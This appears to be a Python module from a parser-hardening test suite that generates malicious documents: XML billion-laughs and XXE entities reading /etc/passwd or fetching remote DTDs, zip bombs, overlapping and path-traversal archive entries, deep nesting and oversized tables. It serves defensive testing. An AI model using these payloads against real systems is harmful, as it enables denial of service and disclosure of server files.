"""Markup, archives and texts that unfold, nest or lie."""

from __future__ import annotations

import io
import json
import struct
import zipfile
from collections.abc import Iterator

from scripts.fuzz.forms import SEPARATOR, docx_of, xlsx_of, zip_of
from scripts.hostile.damaged import sound_files
from scripts.hostile.values import ANY, FAILED, BadFile

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_LAUGHS = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
_BILLION = f'<!DOCTYPE x [<!ENTITY e0 "ha">{_LAUGHS}]>'
_QUADRATIC = f'<!DOCTYPE x [<!ENTITY e11 "{"ha" * 50_000}">]>'
_OUTSIDE = '<!DOCTYPE x [<!ENTITY e11 SYSTEM "file:///etc/passwd">]>'
_REMOTE = '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd" [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]>'
_DECLARATIONS = {"billion": _BILLION, "quadratic": _QUADRATIC, "outside": _OUTSIDE, "remote": _REMOTE}


def markup_files() -> Iterator[BadFile]:
    """Files of markup and office files."""
    yield from _entities()
    yield from _nested()
    yield from _tables()
    yield from _archives()
    yield from _odd_json()


def _entities() -> Iterator[BadFile]:
    for name, declaration in _DECLARATIONS.items():
        slow = name == "quadratic"  # read as text, it is one word of a hundred thousand letters
        uses = "&e11;" * (2000 if name == "quadratic" else 1)
        yield BadFile(
            f"entities/{name}.alto", f'{declaration}<alto><Page WIDTH="9">{uses}</Page></alto>'.encode(), ANY, slow
        )
        attribute = f'{declaration}<alto><Page><TextLine><String CONTENT="{uses[:500]}"/></TextLine></Page></alto>'
        yield BadFile(f"entities/{name}-attribute.alto", attribute.encode(), ANY, slow)
        line = f"<TextRegion><TextLine><TextEquiv><Unicode>{uses}</Unicode></TextEquiv></TextLine></TextRegion>"
        yield BadFile(f"entities/{name}.page", f"{declaration}<PcGts><Page>{line}</Page></PcGts>".encode(), ANY, slow)
        yield BadFile(
            f"entities/{name}.html", f"{declaration}<html><body><p>{uses} Điều 1.</p></body></html>".encode(), ANY, slow
        )
        page = (
            f"{declaration}<html><body><div class='ocr_page'><span class='ocr_line'>{uses}</span></div></body></html>"
        )
        yield BadFile(f"entities/{name}.hocr", page.encode(), ANY, slow)
        body = f"<w:body><w:p><w:r><w:t>{uses}</w:t></w:r></w:p></w:body>"
        document = f'{declaration}<w:document xmlns:w="{_W}">{body}</w:document>'
        yield BadFile(f"entities/{name}.docx", zip_of({"word/document.xml": document.encode()}), FAILED)
        book = {
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/s.xml": f"{declaration}<worksheet>{uses}</worksheet>".encode(),
        }
        yield BadFile(f"entities/{name}.xlsx", zip_of(book), FAILED)
        yield BadFile(f"entities/{name}.fodt", f"{declaration}<wordDocument>{uses}</wordDocument>".encode(), ANY, True)


def _nested() -> Iterator[BadFile]:
    deep = 20_000
    yield BadFile("nested/div.html", b"<html><body>" + b"<div>" * deep + b"a")
    yield BadFile("nested/table.html", b"<html><body>" + b"<table><tr><td>" * deep + b"a")
    yield BadFile("nested/table-small.html", b"<html><body>" + b"<table><tr><td>1<td>" * 80 + b"a")
    yield BadFile("nested/list.html", b"<html><body>" + b"<ol><li>" * deep + b"a")
    yield BadFile("nested/font.html", b"<html><body>" + b"<font face=.VnTime>" * 200 + "Điều 1.".encode())
    yield BadFile("nested/span.hocr", b"<html><body><div class=ocr_page>" + b"<span class=ocr_line>" * deep + b"a")
    yield BadFile("nested/alto.alto", b"<alto><Page>" + b"<TextBlock>" * deep)
    yield BadFile(
        "nested/page.page", b"<PcGts><Page>" + b"<TextRegion>" * 240 + b"</TextRegion>" * 240 + b"</Page></PcGts>"
    )
    yield BadFile("nested/arrays.json", b'{"schema_name": "DoclingDocument", "body": ' + b"[" * deep)
    yield BadFile("nested/objects.json", b'{"schema_name": "DoclingDocument", "body": ' + b'{"a":' * deep)
    for name, opening, closing in (
        ("table", b"<w:tbl><w:tr><w:tc>", b"</w:tc></w:tr></w:tbl>"), ("ins", b"<w:ins>", b"</w:ins>"),
        ("sdt", b"<w:sdt><w:sdtContent>", b"</w:sdtContent></w:sdt>"),
        ("box", b"<w:p><w:r><w:pict><w:txbxContent>", b"</w:txbxContent></w:pict></w:r></w:p>"),
    ):  # fmt: skip
        levels = 240 // opening.count(b"<")
        body = opening * levels + b"<w:p><w:r><w:t>a</w:t></w:r></w:p>" + closing * levels
        yield BadFile(f"nested/{name}.docx", docx_of(body))
        yield BadFile(f"nested/{name}-deep.docx", docx_of(opening * deep), FAILED)
    parts = b"".join(
        b"Content-Type: multipart/related; boundary=b%d\n\n--b%d\n" % (level, level) for level in range(3000)
    )
    yield BadFile("nested/multipart.mht", b"MIME-Version: 1.0\n" + parts)
    yield BadFile("nested/brackets.rtf", b"{\\rtf1 " + b"{" * 100_000, ANY, True)


def _tables() -> Iterator[BadFile]:
    spans = "<table border=1>" + "<tr><td rowspan=65534 colspan=99>a<td>b</tr>" * 2000 + "</table>"
    yield BadFile("tables/spans.html", f"<html><body>{spans}</body></html>".encode(), FAILED)
    wide = "<tr>" + "<td rowspan=65534>a" * 3000 + "</tr>" + "<tr><td>b</tr>" * 3000
    yield BadFile("tables/square.html", f"<html><body><table border=1>{wide}</table></body></html>".encode(), FAILED)
    dump = "<table>" + "<tr>" + "<td rowspan=999>a</td>" * 3000 + "</tr>" + "<tr><td>b</td></tr>" * 999 + "</table>"
    yield BadFile("tables/square.txt", f"KẾ HOẠCH\n{dump}\n".encode(), FAILED)
    yield BadFile("tables/million-rows.txt", b"| a |\n" * 1_000_000, FAILED, True)
    yield BadFile("tables/million-tabs.txt", b"1\ta\n" * 1_000_000, FAILED, True)
    yield BadFile("tables/one-row.txt", b"| a " * 200_000 + b"|\n", ANY, True)
    rows = b"<tr><td>a" * 1_000_000
    yield BadFile("tables/million-rows.html", b"<html><body><table border=1>" + rows, FAILED, True)
    cells = b'<row><c t="inlineStr"><is><t>a</t></is></c></row>' * 1_000_000
    yield BadFile("tables/million-rows.xlsx", lambda: xlsx_of(b"<sheetData>%s</sheetData>" % cells), FAILED, True)
    merged = b'<sheetData/><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    yield BadFile("tables/merged.xlsx", xlsx_of(merged), FAILED)
    many = b"".join(b'<mergeCell ref="A%d:XFD%d"/>' % (row, row) for row in range(1, 300))
    yield BadFile("tables/merged-rows.xlsx", xlsx_of(b"<sheetData/><mergeCells>%s</mergeCells>" % many), FAILED)
    far = b'<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    yield BadFile("tables/far.xlsx", xlsx_of(far))
    odd = b'<row r="0"><c r="A0"><v>1e400</v></c></row><row r="-1"><c r="ZZZZ9"><v>nan</v></c></row>'
    yield BadFile("tables/odd.xlsx", xlsx_of(b"<sheetData>%s</sheetData>" % odd))
    grid = b'<w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999"/></w:tcPr><w:p/></w:tc></w:tr>' * 500
    yield BadFile("tables/spans.docx", docx_of(b"<w:tbl>%s</w:tbl>" % grid))
    breaks = b'<w:p><w:r><w:br w:type="page"/></w:r></w:p>' * 50_000
    yield BadFile("tables/page-breaks.docx", docx_of(breaks), FAILED)
    yield BadFile(
        "tables/page-breaks.html", b"<html><body>" + b"<p style='page-break-before:always'>a" * 50_000, FAILED
    )


def _packed(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _bomb(megabytes: int = 600, **others: bytes) -> bytes:
    """An archive whose part `content.xml`, `word/document.xml` and a sheet unpack to that much, together."""
    content = b"<w:p/>" * (megabytes * 1_000_000 // 18)
    names = ("content.xml", "word/document.xml", "xl/worksheets/s.xml")
    return _packed(others | dict.fromkeys(names, content))


def _archives() -> Iterator[BadFile]:
    yield BadFile("archives/flat.docx", lambda: _packed({"word/document.xml": b"<w:p/>" * 100_000_000}), FAILED, True)
    yield BadFile("archives/flat.xlsx", lambda: _bomb(**{"xl/workbook.xml": b"<workbook/>"}), FAILED, True)
    kind = b"application/vnd.oasis.opendocument.text"
    yield BadFile("archives/flat.odt", lambda: _bomb(mimetype=kind), FAILED, True)
    yield BadFile(
        "archives/nested.zip", lambda: _packed({f"{number}.docx": _bomb(30) for number in range(50)}), FAILED, True
    )
    yield BadFile("archives/nested.docx", lambda: _packed({"word/document.xml": _bomb(100)}), FAILED, True)
    yield BadFile("archives/overlapping.docx", _overlapping, FAILED, True)
    names = {f"word/part{number}.xml": b"<a/>" for number in range(30_000)}
    yield BadFile("archives/many.docx", lambda: zip_of({"word/document.xml": b"<a/>", **names}), FAILED, True)
    sound = sound_files()["docx"]
    size = struct.pack("<L", len(zipfile.ZipFile(io.BytesIO(sound)).read("word/document.xml")))
    yield BadFile("archives/size-lies.docx", sound.replace(size, struct.pack("<L", 99)), FAILED)
    yield BadFile("archives/size-vast.docx", sound.replace(size, struct.pack("<L", 0xFFFFFFF0)), FAILED)
    escaping = {
        "word/document.xml": b"<a/>",
        "../../escaped.xml": b"x",
        "/etc/escaped.xml": b"x",
        "C:\\escaped.xml": b"x",
    }
    yield BadFile("archives/escaping.docx", zip_of(escaping), FAILED)
    target = b'<Relationships><Relationship Type="a/officeDocument" Target="../../../../etc/passwd"/></Relationships>'
    yield BadFile(
        "archives/relation-outside.docx", zip_of({"_rels/.rels": target, "word/document.xml": b"<a/>"}), FAILED
    )
    ring = b'<Relationships><Relationship Type="a/officeDocument" Target="_rels/.rels"/></Relationships>'
    yield BadFile("archives/relation-ring.docx", zip_of({"_rels/.rels": ring, "word/document.xml": b"<a/>"}), FAILED)
    styles = "".join(f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 50}"/></w:style>' for n in range(50))
    body = b'<w:p><w:pPr><w:pStyle w:val="s1"/></w:pPr><w:r><w:t>a</w:t></w:r></w:p>'
    yield BadFile("archives/style-ring.docx", docx_of(SEPARATOR.join((body, b"", styles.encode()))))
    yield BadFile(
        "archives/password.docx", sound.replace(b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01")
    )


def _overlapping() -> bytes:
    """An archive of many parts that all lie in the same bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"<w:p/>" * 1_000_000)
        first = archive.infolist()[0]
        for number in range(500):
            other = zipfile.ZipInfo(f"word/part{number}.xml")
            for field in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(other, field, getattr(first, field))
            archive.filelist.append(other)
    return buffer.getvalue()


def _odd_json() -> Iterator[BadFile]:
    def docling(**parts: object) -> bytes:
        return json.dumps({"schema_name": "DoclingDocument", "version": "1.0.0", **parts}).encode()

    ring = [{"self_ref": "#/texts/0", "label": "text", "text": "a", "children": [{"$ref": "#/texts/0"}]}]
    yield BadFile("json/ring.json", docling(body={"children": [{"$ref": "#/texts/0"}, {"$ref": "#/body"}]}, texts=ring))
    halves = [{"label": "text", "text": "Điều \ud800 1. \udfff\0 a"}]
    yield BadFile("json/half-pairs.json", docling(body={"children": [{"$ref": "#/texts/0"}]}, texts=halves))
    digits = {"children": [{"$ref": "#/texts/" + "9" * 6000}]}
    yield BadFile("json/many-digits.json", docling(body=digits, pages={"9" * 6000: {"size": {"height": 1}}}))
    yield BadFile("json/number.json", b'{"schema_name": "DoclingDocument", "body": {"a": ' + b"9" * 6000 + b"}}")
    far = [{"label": "text", "text": "a", "prov": [{"page_no": 999_999}]}]
    yield BadFile("json/far-page.json", docling(body={"children": [{"$ref": "#/texts/0"}]}, texts=far))
    cell = {"text": "a", "start_row_offset_idx": 0, "end_row_offset_idx": 900_000, "start_col_offset_idx": 0}
    tables = [{"data": {"table_cells": [cell | {"end_col_offset_idx": 900_000}] * 50}}]
    yield BadFile("json/spans.json", docling(body={"children": [{"$ref": "#/tables/0"}]}, tables=tables))
    wrong = {"texts": 5, "tables": "a", "groups": None, "pages": [1], "body": {"children": {"a": 1}}}
    yield BadFile("json/wrong-types.json", docling(**wrong))
    yield BadFile("json/infinite.json", docling(body={"children": []}, pages={"1": {"size": {"height": float("inf")}}}))
